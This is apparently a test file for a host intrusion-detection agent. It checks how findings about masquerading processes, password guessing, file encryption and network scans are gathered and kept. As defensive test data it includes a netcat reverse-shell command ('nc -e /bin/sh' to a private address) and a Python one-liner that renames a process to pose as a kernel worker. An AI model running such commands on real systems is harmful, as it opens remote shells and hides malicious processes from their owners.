/**
 * What the judges see of facts: known a moment after it was wanted, kept when the process is gone,
 * nothing without a reader.
 */
import { afterAll, beforeAll, describe, expect, test } from 'bun:test'
import { FactKeeper, inTurn, type Wanted } from '../../src/agent/fact-keeper.ts'
import type { Proof } from '../../src/domain/finding.ts'
import type { Process } from '../../src/domain/process.ts'
import { procStat } from '../../src/facts/proc-files.ts'
import type { FactsReader } from '../../src/facts/reader.ts'
import { startReader } from '../support/facts.ts'
import { frameOf } from '../support/hand-frames.ts'
import { isRoot } from '../support/privileges.ts'
import { until } from '../support/until.ts'

const nobody = () => false

test('without a reader it knows nothing and asks nothing', () => {
  const keeper = new FactKeeper(undefined, nobody)
  const process: Process = { pid: 1, startMs: 0, name: 'x' }
  keeper.push(frameOf(1, [{ pid: 1, counts: { read: 1 } }]))
  keeper.want(process, 'masquerade')
  expect(keeper.canAsk).toBe(false)
  expect(keeper.findings(process, 'masquerade')).toBeUndefined()
  expect(keeper.context(process)).toBeUndefined()
  expect(keeper.proofs()).toEqual([])
})

test('the most urgent comes first; who waits for a watch of its files comes in the end', () => {
  const wanted = (urgency: number, since: number, question: 'files' | 'look'): Wanted => ({
    ...{ process: { pid: since, startMs: 0, name: 'x' }, questions: [question], urgency },
    ...{ second: 100, since },
  })
  const order = (all: Record<string, Wanted>) =>
    inTurn(new Map(Object.entries(all)), 100).map(([key]) => key)
  const slow = (since: number) => wanted(3.1, since, 'files')
  const busy = wanted(3.9, 99, 'files')
  expect(order({ slow: slow(95), busy })).toEqual(['busy', 'slow'])
  expect(order({ busy, slow: slow(70) })).toEqual(['slow', 'busy'])
  // A process that is looked at may be gone soon: the latest first, however long others wait.
  const look = (since: number) => wanted(1, since, 'look')
  expect(order({ early: look(10), late: look(99) })).toEqual(['late', 'early'])
})

describe.skipIf(!isRoot)('with a reader', () => {
  let reader: FactsReader
  let keeper: FactKeeper
  let second = 1_000
  const tick = () => keeper.push(frameOf(second++, []))
  beforeAll(() => {
    reader = startReader()
    keeper = new FactKeeper(reader, nobody)
  })
  afterAll(() => keeper.close())

  const answered = (process: Process, question: 'masquerade' | 'reverse-shell') =>
    until('an answer', () => {
      keeper.want(process, question)
      tick()
      return keeper.findings(process, question)
    })

  test('findings and context of a process stay after it has ended', async () => {
    const child = Bun.spawn(['sleep', '100'])
    const sleeper: Process = { pid: child.pid, startMs: Date.now(), name: 'sleep' }
    const found = await answered(sleeper, 'masquerade')
    child.kill('SIGKILL')
    await child.exited
    expect(found.map(({ says }) => says)).toEqual(['refutes'])
    expect(keeper.findings(sleeper, 'masquerade')).toEqual(found)
    expect(keeper.context(sleeper)).toMatchObject({ user: 'root', command: 'sleep 100' })
    expect(keeper.findings(sleeper, 'reverse-shell')).toBeUndefined()
  })

  test('one that was gone before is known by its parent and by what it executed', async () => {
    const child = Bun.spawn(['true'])
    await child.exited
    const gone: Process = {
      pid: child.pid,
      startMs: Date.now(),
      name: 'true',
      ppid: process.pid,
      exe: '/usr/bin/true',
    }
    expect((await answered(gone, 'masquerade')).map(({ says }) => says)).toEqual(['refutes'])
    expect(keeper.context(gone)?.parents?.[0]).toMatchObject({ pid: process.pid })
    // Another that nobody can be asked about executed the same file.
    const { ppid: _, ...alone } = gone
    const says = (other: Partial<Process>) =>
      keeper.findings({ ...alone, pid: 4_194_303, ...other }, 'masquerade')?.map((f) => f.says)
    expect(says({})).toEqual(['refutes'])
    expect(says({ name: 'false' })).toBeUndefined()
    expect(says({ exe: '/tmp/true' })).toBeUndefined()
    expect(says({ container: '0123456789ab' })).toBeUndefined()
  })

  test('an answer is under way from the question on', async () => {
    const child = Bun.spawn(['sleep', '100'])
    const sleeper: Process = { pid: child.pid, startMs: Date.now(), name: 'sleep' }
    expect(keeper.isAsking(sleeper, 'file-encryption')).toBe(false)
    keeper.want(sleeper, 'file-encryption')
    expect(keeper.isAsking(sleeper, 'file-encryption')).toBe(true)
    expect(keeper.isAsking(sleeper, 'masquerade')).toBe(false)
    tick()
    expect(keeper.isAsking(sleeper, 'file-encryption')).toBe(true)
    await until('an answer', () => !keeper.isAsking(sleeper, 'file-encryption'))
    expect(keeper.findings(sleeper, 'file-encryption')).toEqual([])
    child.kill('SIGKILL')
    await child.exited
  })

  test('who a process is comes before what it does with files', async () => {
    const child = Bun.spawn(['sleep', '100'])
    const sleeper: Process = { pid: child.pid, startMs: Date.now(), name: 'sleep' }
    keeper.want(sleeper, 'file-encryption')
    tick()
    const context = await until('a context', () => keeper.context(sleeper))
    expect(keeper.isAsking(sleeper, 'file-encryption')).toBe(true)
    expect(keeper.findings(sleeper, 'file-encryption')).toBeUndefined()
    expect(context).toMatchObject({ user: 'root', command: 'sleep 100' })
    child.kill('SIGKILL')
    await child.exited
  })

  test('a user that was looked up stands for later processes of the same container', async () => {
    const child = Bun.spawn(['setpriv', '--reuid=33', 'sleep', '100'])
    const container = '0123456789ab'
    const sleeper: Process = { pid: child.pid, startMs: Date.now(), name: 'sleep', container }
    await until('the other user', () => procStat(child.pid)?.name === 'sleep')
    await until('an answer', () => {
      keeper.want(sleeper, 'masquerade')
      tick()
      return keeper.context(sleeper)?.user === 'www-data'
    })
    const gone = {
      pid: 4_194_304,
      startMs: Date.now(),
      name: 'x',
      uid: 33,
      command: { text: 'x', digest: 1 },
    }
    expect(keeper.context({ ...gone, container })?.user).toBe('www-data')
    expect(keeper.context(gone)?.user).toBeUndefined()
    child.kill('SIGKILL')
    await child.exited
  })

  test('who connects again and again and is refused each time guesses; who is answered does not', async () => {
    const clientThatHears = async (answer: string) => {
      const script = `import socket,time
a,b=socket.socketpair()
b.sendall(bytes.fromhex("${Buffer.from(answer).toString('hex')}"))
got=a.recv(4096);print(len(got),flush=True);time.sleep(60)`
      const child = Bun.spawn(['/usr/bin/python3', '-c', script], { stdout: 'pipe' })
      const out = child.stdout.getReader()
      await until('the answer', async () => (await out.read()).value)
      return child
    }
    // Its source tells remote ends.
    const keeper = new FactKeeper(reader, nobody)
    const refused = await clientThatHears('-WRONGPASS invalid username-password pair\r\n')
    const answered = await clientThatHears('HTTP/1.1 200 OK\r\n\r\n')
    const startMs = Date.now()
    const rows = [refused, answered].map(({ pid }) => ({
      ...{ pid, startMs, name: 'python3', counts: { connect: 5, sendto: 5, recvfrom: 10 } },
      activity: { contacts: 5, peers: [1, 0, 0, 0] as const, peer: '10.0.0.7:8080' },
    }))
    const asked: Process = { pid: answered.pid, startMs, name: 'python3' }
    const proofs: Proof[] = []
    await until('both answers', () => {
      keeper.push(frameOf(second++, rows))
      proofs.push(...keeper.proofs())
      return proofs.length > 0 && keeper.findings(asked, 'password-guessing') !== undefined
    })
    expect(proofs).toMatchObject([
      { process: { pid: refused.pid }, finding: { question: 'password-guessing', says: 'proves' } },
    ])
    expect(keeper.findings(asked, 'password-guessing')).toEqual([])
    for (const child of [refused, answered]) child.kill('SIGKILL')
    await Promise.all([refused.exited, answered.exited])
  })

  test('a proof is told once', async () => {
    const rename =
      'import ctypes,time;ctypes.CDLL(None).prctl(15,b"kworker/9:9",0,0,0);time.sleep(60)'
    const child = Bun.spawn(['/usr/bin/python3', '-c', rename])
    await until('the new name', () => procStat(child.pid)?.name === 'kworker/9:9')
    const row = { pid: child.pid, startMs: Date.now(), name: 'kworker/9:9', counts: { read: 1 } }
    const [proof] = await until('a proof', () => {
      keeper.push(frameOf(second++, [row]))
      const proofs = keeper.proofs()
      return proofs.length > 0 ? proofs : undefined
    })
    child.kill('SIGKILL')
    expect(proof).toMatchObject({
      process: { pid: child.pid },
      finding: { question: 'masquerade' },
    })
    expect(keeper.status().proofs).toBeGreaterThan(0)
  })

  test('one that nobody could look at is known by what the kernel told of it', () => {
    const above = { pid: 4_194_000, name: 'bash', exe: '/usr/bin/bash', startMs: 1_000 }
    const child = {
      ...{ pid: 4_194_001, name: 'nc', startMs: second * 1000, ppid: above.pid, uid: 33 },
      command: 'nc -e /bin/sh 10.0.0.9 4444',
    }
    const frame = frameOf(second++, [
      { ...above, counts: { clone: 1 } },
      { ...child, counts: { execve: 1 } },
    ])
    keeper.push(frame)
    expect(keeper.context(frame.processes[1]!)).toMatchObject({
      ...{ uid: 33, command: child.command },
      parents: [{ pid: above.pid, name: 'bash', exe: '/usr/bin/bash' }],
    })
  })

  test('who starts many shells in a second takes no looks from others', () => {
    const { dropped } = keeper.status()
    const starter = { pid: 4_194_002, name: 'make', startMs: 1_000, counts: { clone: 40 } }
    const shells = Array.from({ length: 40 }, (_, i) => ({
      ...{ pid: 4_195_000 + i, name: 'sh', exe: '/usr/bin/dash', startMs: second * 1000 },
      ...{ ppid: starter.pid, counts: { execve: 1 } },
    }))
    keeper.push(frameOf(second++, [starter, ...shells]))
    expect(keeper.status().dropped - dropped).toBe(36)
  })

  test('who is proven by counts alone is looked at before that is told', async () => {
    const child = Bun.spawn(['sleep', '100'])
    const scanner = { pid: child.pid, startMs: Date.now(), name: 'sleep' }
    let proof: Proof | undefined
    await until('a proof', () => {
      keeper.push(frameOf(second++, [{ ...scanner, counts: { connect: 300, write: 1 } }]))
      proof ??= keeper.proofs().find(({ process }) => process.pid === child.pid)
      return proof
    })
    child.kill('SIGKILL')
    expect(proof?.finding.question).toBe('network-scan')
    expect(keeper.context(proof!.process)).toMatchObject({ user: 'root', command: 'sleep 100' })
  })
})
